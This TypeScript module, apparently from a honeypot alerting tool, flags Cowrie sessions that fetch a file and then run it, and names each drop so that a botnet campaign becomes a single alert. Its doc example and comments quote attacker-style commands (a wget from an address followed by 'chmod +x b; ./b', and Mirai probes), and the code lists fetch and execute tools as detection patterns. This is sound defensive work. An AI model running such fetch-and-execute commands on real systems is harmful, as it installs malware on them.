/**
 * A malware drop as a session shows it: something fetched (a file download or upload Cowrie
 * logged, or a wget/curl/tftp/ftpget command with a URL or address), then run (chmod, a shell,
 * or a path executed) in the same session. Mirai's probe "tftp; wget; /bin/busybox XRCUK" asks
 * which tools exist and fetches nothing. Cowrie logs `session.file_download.failed` when its fetch fails, which is
 * still the attacker's intent, so it counts.
 *
 * What a drop dropped is named the way a campaign's sources share it, so that the alert stage can
 * make one alert of a campaign (SPEC: one command from many new sources is one alert): the file's
 * SHA-256 when Cowrie logged one before the run, else the fetch as typed with its addresses and
 * ports left out. Mirai's loaders serve the binary from each bot's own address
 * (`wget http://<bot>:<port>/i`), so the address tells bots apart, not campaigns.
 *
 * Sessions live in a bounded LRU table, by source and id: most of a scan storm's sessions never close.
 *
 * ```ts
 * const drops = new DownloadThenRun();
 * assert.equal(drops.observe({ session: "a1", eventid: "cowrie.command.input", input: "wget http://198.51.100.7:8080/b" }), undefined);
 * assert.equal(drops.observe({ session: "a1", eventid: "cowrie.command.input", input: "chmod +x b; ./b" }), "wget http://*\/b");
 * ```
 */
import type { CanonicalEvent } from "../domain/canonical-event";
import { LruMap } from "../collections/lru-map";
import { heldCopy } from "./held-text";

const FETCHERS = new Set(["wget", "curl", "tftp", "ftpget", "scp"]);
const RUNNERS = new Set(["chmod", "sh", "bash", "ash", "dash", "perl", "python", "python3", "nohup"]);

/** Where a program name means "run a fetched file": a relative or temporary path. */
const EXECUTED_PATH = /^(\.\/|\/tmp\/|\/dev\/shm\/|\/var\/tmp\/)/;
/** What a fetch fetches from: a URL or an address. A bare "wget" is Mirai asking whether the tool exists. */
const SOURCE = /:\/\/|^\d{1,3}(\.\d{1,3}){3}\b/;
/** An IPv4 address, with its port if any: what a campaign's fetch changes from bot to bot. */
const ADDRESS = /\b\d{1,3}(?:\.\d{1,3}){3}(?::\d{1,5})?\b/g;
/** A name is a label, not a payload (attacker text: a pasted megabyte needs no more than this). */
const MAX_NAME_CHARS = 256;

interface CommandPart {
  program: string;
  args: string[];
}

/** The parts of a command line, each as its program (busybox's applet for "busybox X") and arguments. */
function partsOf(commandLine: string, maxParts = 16): CommandPart[] {
  // Only the head of a pasted megabyte is looked at: a few parts are enough to say what it runs.
  const head = commandLine.length > 4096 ? commandLine.slice(0, 4096) : commandLine;
  const parts: CommandPart[] = [];
  for (const text of head.split(/[;|&\n]+/)) {
    const words = text.trim().split(/\s+/).filter(Boolean);
    const name = (word: string) => (EXECUTED_PATH.test(word) ? word : word.slice(word.lastIndexOf("/") + 1));
    if (words.length > 1 && name(words[0]) === "busybox") words.shift();
    if (words.length === 0) continue;
    parts.push({ program: name(words[0]), args: words.slice(1) });
    if (parts.length === maxParts) break;
  }
  return parts;
}

const fetches = ({ program, args }: CommandPart) => FETCHERS.has(program) && args.some((arg) => SOURCE.test(arg));
const runs = ({ program }: CommandPart) => RUNNERS.has(program) || EXECUTED_PATH.test(program);

/** A fetch as a campaign's bots all type it: "wget http://203.0.113.9:41075/i" is "wget http://*\/i". */
function fetchName({ program, args }: CommandPart): string {
  return cut(`${program} ${args.join(" ").replace(ADDRESS, "*")}`);
}

/** A name's own copy: a cut of the attacker's text would keep all of it alive (see heldCopy). */
function cut(text: string): string {
  return heldCopy(text, MAX_NAME_CHARS);
}

/** A session's fetch: what it fetched, by name (see the header), and whether that has run yet. */
interface SessionFetch {
  name: string;
  ran: boolean;
}

export class DownloadThenRun {
  /** Sessions that fetched something, with its name and whether it ran yet. */
  private readonly fetched: LruMap<string, SessionFetch>;

  constructor(maxSessions = 50_000) {
    this.fetched = new LruMap(maxSessions);
  }

  /** On the event that runs what its session fetched before (once per session), what ran, by name; else undefined. */
  observe(event: Partial<CanonicalEvent>): string | undefined {
    if (typeof event.session !== "string" || event.session === "") return undefined;
    // A session belongs to one source: by its id alone, the sessions of all events without one
    // (clean's "unknown") were one, and one source's fetch hid or named another's drop.
    const session = `${event.src_ip ?? ""}\u0000${event.session}`;
    const eventid = event.eventid ?? "";
    if (eventid.startsWith("cowrie.session.file_download") || eventid === "cowrie.session.file_upload") {
      const fetch = this.fetched.get(session);
      const shasum = typeof event.shasum === "string" && event.shasum !== "" ? cut(`sha256:${event.shasum}`) : undefined;
      const name = shasum ?? (typeof event.url === "string" ? cut(event.url.replace(ADDRESS, "*")) : eventid.slice("cowrie.session.".length));
      // The file's hash names it best; a fetch typed before it is the same file.
      if (!fetch) this.fetched.set(session, { name, ran: false });
      else if (!fetch.ran && shasum) fetch.name = shasum;
      return undefined;
    }
    if (eventid !== "cowrie.command.input" || typeof event.input !== "string") return undefined;
    const parts = partsOf(event.input);
    const fetch = this.fetched.get(session);
    if (fetch && !fetch.ran && parts.some(runs)) {
      fetch.ran = true;
      return fetch.name;
    }
    // A fetch and its run on one command line ("wget ...; chmod +x b; ./b") count at once.
    const fetchAt = parts.findIndex(fetches);
    if (!fetch && fetchAt >= 0) {
      const name = fetchName(parts[fetchAt]);
      const ran = parts.slice(fetchAt + 1).some(runs);
      this.fetched.set(session, { name, ran });
      return ran ? name : undefined;
    }
    return undefined;
  }
}
